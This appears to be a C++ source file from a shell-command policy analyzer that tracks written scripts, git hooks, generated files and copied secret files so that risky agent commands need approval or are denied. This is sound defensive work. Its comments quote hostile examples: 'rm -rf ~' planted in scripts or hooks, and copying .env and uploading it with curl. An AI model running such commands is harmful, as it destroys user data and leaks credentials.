    // source <(echo 'rm -rf ~'): the substitution's command is in the word's source text.
    if (!arg.raw.startsWith(QLatin1String("<(")) || !arg.raw.endsWith(u')'))
        return false;
    const ParseResult parsed = parseShell(arg.raw.mid(2, arg.raw.size() - 3));
    if (!parsed.ok())
        return false;
    const Node *node = parsed.root.get();
    while (node && node->kind == NodeKind::List && node->children.size() == 1)
        node = node->children.front().get();
    return node && staticOutputText(*node, context, text);
}

QStringList Analyzer::stdoutFiles(const Node &node, const AnalysisContext &context) const
{
    // The files a simple command's standard output goes to (> f, >> f, &> f), where statically known.
    QStringList files;
    for (const Redirect &redirect : node.redirects) {
        if (!writesStdout(redirect))
            continue;
        const WordValue target = resolveWord(redirect.target, ResolveContext{m_home, context.cwd, &m_variables});
        if (target.isStatic && !target.glob && !target.value.isEmpty())
            files << m_guard.absolute(target.value, context.cwd);
    }
    return files;
}

void Analyzer::recordGeneratedFiles(const Node &node, const AnalysisContext &context)
{
    // jq -r .cmd x.json > f; sh f: f holds output nobody can read from the command line.
    for (const QString &file : stdoutFiles(node, context))
        m_generatedFiles.insert(file);
}

void Analyzer::judgeGeneratedScript(const QString &path, SourceSpan span, const AnalysisContext &context)
{
    const QString absolute = m_guard.absolute(path, context.cwd);
    if (m_generatedFiles.contains(absolute) && !m_writtenScripts.contains(absolute))
        add(QStringLiteral("eval_command"), Verdict::RequiresApproval, RiskLevel::Medium, span, path, context);
}

bool Analyzer::teeStaticInput(const Node &node, const AnalysisContext &context)
{
    // tee build/h.sh <<< 'rm -rf ~' (or echo ... | tee f): tee writes the known text to each file operand.
    if (node.kind != NodeKind::Simple || node.words.empty())
        return false;
    const WordValue program = resolveWord(node.words.front(), ResolveContext{m_home, context.cwd, &m_variables});
    if (!program.isStatic || program.value != u"tee")
        return false;
    QString text;
    bool known = false;
    for (const Redirect &redirect : node.redirects) {
        if ((redirect.op == u"<<" || redirect.op == u"<<-") && redirect.hereDoc
            && (redirect.hereDoc->quoted || (!redirect.hereDoc->body.contains(u'$') && !redirect.hereDoc->body.contains(u'`')))) {
            text = redirect.hereDoc->body;
            known = true;
        } else if (redirect.op == u"<<<") {
            const WordValue value = resolveWord(redirect.target, ResolveContext{m_home, context.cwd, &m_variables});
            known = value.isStatic;
            text = value.value;
        }
    }
    if (!known && context.input.kind == StdinKind::Pipe && context.input.textStatic && !context.input.text.isEmpty()) {
        text = context.input.text;
        known = true;
    }
    if (!known)
        return true;
    for (size_t i = 1; i < node.words.size(); ++i) {
        const WordValue file = resolveWord(node.words[i], ResolveContext{m_home, context.cwd, &m_variables});
        if (!file.isStatic || file.glob || file.value.startsWith(u'-'))
            continue;
        const QString target = m_guard.absolute(file.value, context.cwd);
        m_writtenScripts.insert(target, text);
        if (target.contains(QLatin1String("/.git/hooks/"))) {
            AnalysisContext later = context;
            later.input = StdinSource{};
            judgeShellText(text, node.span, later, QStringLiteral("git hook"));
        }
    }
    return true;
}

void Analyzer::recordWrittenScript(const Node &node, const AnalysisContext &context)
{
    // echo 'rm -rf ~' > build/x.sh: remember the text, for `sh build/x.sh` / `. build/x.sh` / `./build/x.sh`
    // later in the command. A git hook written this way runs later: its text is judged now.
    QString target;
    bool append = false;
    for (const Redirect &redirect : node.redirects) {
        if ((redirect.op == u">" || redirect.op == u">|" || redirect.op == u">>") && (redirect.fd == -1 || redirect.fd == 1)) {
            const WordValue value = resolveWord(redirect.target, ResolveContext{m_home, context.cwd, &m_variables});
            if (!value.isStatic || value.glob || value.value.isEmpty())
                return;
            target = m_guard.absolute(value.value, context.cwd);
            append = redirect.op == u">>";
        }
    }
    QString text;
    if (teeStaticInput(node, context))
        return;
    if (target.isEmpty() || !staticOutputText(node, context, &text))
        return;
    if (append && m_writtenScripts.contains(target))
        text.prepend(m_writtenScripts.value(target) + u'\n');
    m_writtenScripts.insert(target, text);
    if (target.contains(QLatin1String("/.git/hooks/"))) {
        AnalysisContext later = context;
        later.input = StdinSource{};
        judgeShellText(text, node.span, later, QStringLiteral("git hook"));
    }
}

void Analyzer::recordSecretCopy(const QList<Arg> &args, const AnalysisContext &context)
{
    // cp .env /tmp/e; curl -T /tmp/e URL: the copy holds the secret too (into a directory: DIR/NAME).
    QList<const Arg *> operands;
    for (qsizetype i = 1; i < args.size(); ++i) {
        if (!isOption(args[i].value))
            operands << &args[i];
    }
    if (operands.size() < 2 || operands.back()->isDynamic())
        return;
    const QString destination = m_guard.absolute(operands.back()->value, context.cwd);
    m_secretFiles.insert(destination);
    if (QFileInfo(destination).isDir() || operands.back()->value.endsWith(u'/')) {
        for (qsizetype k = 0; k + 1 < operands.size(); ++k) {
            if (!operands[k]->isDynamic())
                m_secretFiles.insert(destination + u'/' + baseName(operands[k]->value));
        }
    }
}

void Analyzer::applyOverlayRules(const QString &name, const QList<Arg> &args, SourceSpan span, const AnalysisContext &context)
{
    for (const OverlayRule &rule : m_rules.overlayRules) {
        if (rule.match.front() != name)
            continue;
        qsizetype next = 1;
        bool matched = true;
        for (qsizetype k = 1; k < rule.match.size(); ++k) {
            while (next < args.size() && isOption(args[next].value) && !isOption(rule.match[k]))
                ++next;
            if (next >= args.size() || args[next].value != rule.match[k]) {
                matched = false;
                break;
            }
            ++next;
        }
        if (!matched)
            continue;
        const QString detail = rule.reason.isEmpty() ? rule.match.join(u' ') : rule.reason;
        if (rule.verdict == Verdict::Allow) {
            // A trusted "allow" lifts the approvals this part's own judgement adds (never denials).
            m_overlayAllowSpans.append(spanFor(span, context));
            add(QStringLiteral("custom_rule"), Verdict::Allow, RiskLevel::Low, span, detail, context);
        } else {
            add(QStringLiteral("custom_rule"), rule.verdict, rule.verdict == Verdict::Deny ? RiskLevel::High : RiskLevel::Medium, span, detail, context);
        }
    }
}

} // namespace workbench::policy
